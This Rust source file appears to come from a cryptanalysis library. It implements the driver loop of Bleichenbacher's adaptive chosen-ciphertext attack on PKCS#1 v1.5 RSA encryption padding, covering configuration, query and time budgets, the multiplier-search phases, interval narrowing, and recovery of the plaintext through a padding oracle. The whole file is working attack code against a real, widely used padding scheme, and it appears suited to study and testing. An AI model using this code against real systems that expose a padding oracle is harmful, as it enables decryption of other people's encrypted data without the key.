//! Step 1 setup and the iteration loop over steps 2 and 3.

use super::error::{AttackError, AttackResult};
use super::interval::CandidateSet;
use super::narrowing::narrow;
use super::oracle::{BlindingOracle, PaddingOracle};
use super::search::MultiplierSearch;
use crate::rsa::keygen::RsaPublicKey;
use crate::rsa::pkcs1::{self, to_fixed_bytes};
use num_bigint::BigUint;
use num_traits::{One, Zero};
use std::time::Duration;

/// Operational limits and tuning for an attack run.
#[derive(Clone, Debug)]
pub struct AttackConfig {
    /// Abort with [`AttackError::QueryBudgetExceeded`] after this many oracle queries.
    pub max_queries: Option<u64>,
    /// Abort with [`AttackError::TimeBudgetExceeded`] once this much time has passed.
    pub time_limit: Option<Duration>,
    /// Candidates tested in parallel during step 2. `1` is strictly sequential.
    pub batch_size: usize,
}

impl Default for AttackConfig {
    fn default() -> Self {
        Self {
            max_queries: None,
            time_limit: None,
            batch_size: 1,
        }
    }
}

impl AttackConfig {
    pub fn with_max_queries(mut self, max_queries: u64) -> Self {
        self.max_queries = Some(max_queries);
        self
    }

    pub fn with_time_limit(mut self, limit: Duration) -> Self {
        self.time_limit = Some(limit);
        self
    }

    pub fn with_batch_size(mut self, batch_size: usize) -> Self {
        self.batch_size = batch_size.max(1);
        self
    }
}

/// Where the driver stands before its next step.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Phase {
    /// No multiplier found yet; the next step runs 2a.
    SearchingS1,
    /// Several intervals left; the next step runs 2b.
    MultipleIntervals,
    /// One interval left; the next step runs 2c.
    SingleInterval,
    Done,
}

/// Snapshot of the attack between iterations.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct AttackState {
    pub n: BigUint,
    pub e: BigUint,
    /// Blinded target, the ciphertext for multiplier `s = 1`.
    pub c0: BigUint,
    /// B = 2^(8(k-2)).
    pub bound: BigUint,
    /// Most recent conforming multiplier.
    pub s: BigUint,
    pub candidates: CandidateSet,
    pub iteration: usize,
}

/// Outcome of a finished attack.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Recovered {
    /// The `k`-byte plaintext block, padding included.
    pub block: Vec<u8>,
    pub queries: u64,
    pub iterations: usize,
}

impl Recovered {
    /// The message with its PKCS#1 v1.5 padding removed.
    pub fn message(&self) -> AttackResult<Vec<u8>> {
        Ok(pkcs1::unpad(&self.block)?)
    }
}

/// Bleichenbacher's adaptive chosen-ciphertext attack on PKCS#1 v1.5
/// encryption padding.
pub struct Bleichenbacher<'o, O: PaddingOracle + ?Sized> {
    oracle: BlindingOracle<'o, O>,
    state: AttackState,
    batch_size: usize,
    k: usize,
}

impl<'o, O: PaddingOracle + ?Sized> Bleichenbacher<'o, O> {
    pub fn new(
        public_key: &RsaPublicKey,
        ciphertext: &BigUint,
        oracle: &'o O,
        config: AttackConfig,
    ) -> AttackResult<Self> {
        let (n, e) = (public_key.n.clone(), public_key.e.clone());
        let k = public_key.modulus_len();
        if k < pkcs1::OVERHEAD {
            return Err(AttackError::ModulusTooSmall(k));
        }
        if ciphertext.is_zero() || ciphertext >= &n {
            return Err(AttackError::InvalidCiphertext);
        }

        let bound = BigUint::one() << (8 * (k - 2));
        let s = BigUint::one();
        let c0 = (ciphertext * s.modpow(&e, &n)) % &n;
        let candidates = CandidateSet::initial(&bound);

        let oracle = BlindingOracle::new(oracle, n.clone(), e.clone(), c0.clone())
            .with_max_queries(config.max_queries)
            .with_time_limit(config.time_limit);

        Ok(Self {
            oracle,
            state: AttackState {
                n,
                e,
                c0,
                bound,
                s,
                candidates,
                iteration: 0,
            },
            batch_size: config.batch_size,
            k,
        })
    }

    pub fn phase(&self) -> Phase {
        if self.state.iteration == 0 {
            Phase::SearchingS1
        } else if self.state.candidates.solution().is_some() {
            Phase::Done
        } else if self.state.candidates.len() > 1 {
            Phase::MultipleIntervals
        } else {
            Phase::SingleInterval
        }
    }

    pub fn state(&self) -> &AttackState {
        &self.state
    }

    pub fn queries(&self) -> u64 {
        self.oracle.queries()
    }

    /// Runs one iteration (step 2 then step 3). Returns the plaintext block
    /// once the candidate set has collapsed to a single integer.
    pub fn step(&mut self) -> AttackResult<Option<Vec<u8>>> {
        if let Some(m) = self.state.candidates.solution() {
            return Ok(Some(to_fixed_bytes(&m, self.k)));
        }

        let search = MultiplierSearch::new(&self.oracle, &self.state.bound, self.batch_size);
        let s = if self.state.iteration == 0 {
            search.first()?
        } else if let Some(interval) = self.state.candidates.single() {
            search.within(interval, &self.state.s)?
        } else {
            search.next_after(&self.state.s)?
        };

        let candidates = narrow(&self.state.candidates, &s, &self.state.bound, &self.state.n);
        let iteration = self.state.iteration + 1;
        if candidates.is_empty() {
            log::error!("iteration {iteration}: s = {s:x} left no candidate interval");
            return Err(AttackError::CandidateSetExhausted { iteration });
        }

        log::info!(
            "iteration {}: s = {:x}, {} interval(s), {} bits left, {} queries",
            iteration,
            s,
            candidates.len(),
            candidates.total_length().bits(),
            self.oracle.queries()
        );
        log::debug!("M_{iteration} = {candidates}");

        self.state.s = s;
        self.state.candidates = candidates;
        self.state.iteration = iteration;

        Ok(self
            .state
            .candidates
            .solution()
            .map(|m| to_fixed_bytes(&m, self.k)))
    }

    /// Steps until the plaintext is recovered or an error stops the attack.
    pub fn run(mut self) -> AttackResult<Recovered> {
        loop {
            if let Some(block) = self.step()? {
                return Ok(Recovered {
                    block,
                    queries: self.oracle.queries(),
                    iterations: self.state.iteration,
                });
            }
        }
    }
}

/// Recovers the plaintext block behind `ciphertext` using only the padding
/// oracle and the public key `(n, e)`.
pub fn recover_plaintext<O: PaddingOracle + ?Sized>(
    n: &BigUint,
    e: &BigUint,
    ciphertext: &BigUint,
    oracle: &O,
) -> AttackResult<Vec<u8>> {
    let public_key = RsaPublicKey::new(n.clone(), e.clone());
    let attack = Bleichenbacher::new(&public_key, ciphertext, oracle, AttackConfig::default())?;
    Ok(attack.run()?.block)
}
